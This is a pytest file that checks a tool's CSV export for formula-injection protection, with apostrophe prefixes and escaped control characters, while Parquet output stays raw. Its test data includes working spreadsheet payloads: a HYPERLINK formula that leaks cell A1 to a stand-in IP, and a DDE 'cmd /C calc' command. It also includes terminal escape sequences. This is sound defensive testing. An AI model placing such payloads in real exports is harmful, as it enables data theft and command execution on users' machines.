"""CSV exports are opened in spreadsheets: no cell may start a formula; Parquet keeps the raw values.

The guard is the one OWASP describes ("CSV Injection", common practice): a cell starting with ``=``,
``+``, ``-``, ``@``, tab or carriage return gets a leading apostrophe. Control characters are written as
visible escapes. The pinned ``tests/expected/decisions.csv`` (ordinary values) is checked unchanged by
``tests/test_formats.py``.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from holdfast.output.tables import export_cleaned, export_decisions
from holdfast.review.decisions import read_decisions
from holdfast.review.journal import Journal
from holdfast.textsafe import csv_cell, csv_cell_back

HOSTILE = {
    '=HYPERLINK("http://203.0.113.9/?"&A1,"x")': '\'=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1": "'\t=1",  # tabs are kept (after the apostrophe)
    "\r=1": "'\\r=1",
    "'quoted": "''quoted",
}
IDS = list(HOSTILE)
ORDINARY = ["L0001", "-1.5", "+3", "1e-3", "apple", "Zoë's crate", ""]


@pytest.mark.parametrize("raw", list(HOSTILE))
def test_formula_cells_get_an_apostrophe_and_come_back(raw: str) -> None:
    assert csv_cell(raw) == HOSTILE[raw]
    if raw.isprintable():
        assert csv_cell_back(csv_cell(raw)) == raw


@pytest.mark.parametrize("raw", ORDINARY)
def test_ordinary_cells_and_plain_numbers_are_unchanged(raw: str) -> None:
    assert csv_cell(raw) == raw and csv_cell_back(raw) == raw


def test_control_characters_are_escaped_line_breaks_kept() -> None:
    assert csv_cell("red\x1b[31m crate\x07") == "red\\x1b[31m crate\\x07"
    assert csv_cell("line 1\nline 2") == "line 1\nline 2"


def _journal(tmp_path: Path) -> Journal:
    journal = Journal.create(
        tmp_path / "s.holdfast.db",
        fingerprint="fp",
        data_path="d.parquet",
        spec_text="",
        label_column="grade",
        id_column="lot",
    )
    ids = list(HOSTILE)[:4]
    journal.record(ids[0], "relabel", "=1+1", note="@mention -x")
    journal.record(ids[1], "exclude", note="\x1b]0;title\x07 escape")
    journal.record(ids[2], "confirm")
    journal.record(ids[3], "defer", note="-1.5")
    return journal


def test_decisions_csv_is_guarded_and_parquet_is_raw(tmp_path: Path) -> None:
    rows = pd.DataFrame({"id": list(HOSTILE)[:4], "label": ["premium"] * 4, "score": 1.0, "flag_names": ""})
    with _journal(tmp_path) as journal:
        csv_path = export_decisions(journal, rows, tmp_path / "d.csv")
        pq_path = export_decisions(journal, rows, tmp_path / "d.parquet")
    cells = [c for row in csv.reader(io.StringIO(csv_path.read_text(), newline="")) for c in row]
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r" or cell == "-1.5", cell
        assert "\x1b" not in cell and "\x07" not in cell
    raw = pd.read_parquet(pq_path).set_index("id")
    assert raw.loc[IDS[0], "new_label"] == "=1+1"
    assert raw.loc[IDS[1], "note"].startswith("\x1b]0;")
    back = read_decisions(csv_path).set_index("id")  # the apostrophes come off when read back
    assert list(back.index) == list(HOSTILE)[:4]
    assert back.loc[IDS[0], "new_label"] == "=1+1"
    assert back.loc[IDS[0], "note"] == "@mention -x"
    assert back.loc[IDS[3], "note"] == "-1.5"


def test_cleaned_csv_is_guarded_numbers_untouched(tmp_path: Path) -> None:
    data = pd.DataFrame(
        {
            "lot": list(HOSTILE)[:4],
            "=weight": [-1.5, 2.0, -3.25, 4.0],
            "remark": ["=cmd()", "-", "fine", "@x"],
            "grade": ["premium", "processing", "premium", "processing"],
        }
    )
    with _journal(tmp_path) as journal:
        export_cleaned(journal, data, tmp_path / "c.csv", id_column="lot", label_column="grade")
        export_cleaned(journal, data, tmp_path / "c.parquet", id_column="lot", label_column="grade")
    text = list(csv.reader(io.StringIO((tmp_path / "c.csv").read_text(), newline="")))
    assert text[0] == ["lot", "'=weight", "remark", "grade"]
    body = {row[0]: row for row in text[1:]}
    assert body['\'=HYPERLINK("http://203.0.113.9/?"&A1,"x")'][1:] == ["-1.5", "'=cmd()", "'=1+1"]
    assert body["'@SUM(1+1)"][2] == "'@x" and body["'@SUM(1+1)"][1] == "4.0"
    raw = pd.read_parquet(tmp_path / "c.parquet")
    assert raw.columns.tolist() == data.columns.tolist() and raw["remark"].tolist()[0] == "=cmd()"
